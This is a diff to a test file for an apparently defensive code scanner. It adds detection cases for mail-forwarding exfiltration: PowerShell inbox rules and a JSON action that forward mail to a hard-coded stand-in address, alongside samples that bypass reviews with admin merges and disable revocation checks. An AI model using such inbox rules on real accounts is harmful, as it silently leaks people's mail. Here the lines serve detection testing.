@@ -142,6 +142,18 @@ CAUGHT = [
     ("SUP005", "config.toml", "[http]\ncheck-revoke = false"),
     ("SUP010", "x.sh", 'gh pr merge "$num" --admin --squash --delete-branch'),
     ("SUP010", "x.js", 'execFileSync("gh", ["pr", "merge", String(n), "--admin"]);'),
+    # EXF007: mail forwarded to an address the code writes out, directly or through a variable
+    ("EXF007", "x.ps1", "New-InboxRule -Name k -ForwardTo 'copy@relay.example.invalid'"),
+    (
+        "EXF007",
+        "x.ps1",
+        "$to = 'copy@relay.example.invalid'\nNew-InboxRule -Name k -RedirectTo $to",
+    ),
+    (
+        "EXF007",
+        "x.py",
+        'actions = {"forwardTo": [{"emailAddress": {"address": "x@relay.example.invalid"}}]}',
+    ),
     # PER007: force-installed extensions, in Chrome's registry policy and Firefox's JSON
     (
         "PER007",
@@ -163,6 +175,9 @@ def test_the_attack_is_reported_at_full_risk(rule: str, file: str, text: str):
 
 # (rule, file, text): the rule must not report these at all.
 LET_THROUGH = [
+    # EXF007: forwarding to the address the user passes in
+    ("EXF007", "x.ps1", "param([string]$Archive)\nNew-InboxRule -Name k -ForwardTo $Archive"),
+    ("EXF007", "x.ps1", "New-InboxRule -Name k -From $Boss -MoveToFolder 'VIP'"),
     # SUP010: a merge that waits for the reviews and checks
     ("SUP010", "x.sh", 'gh pr merge "$num" --auto --squash'),
     # PER007: what the user may install is not an install
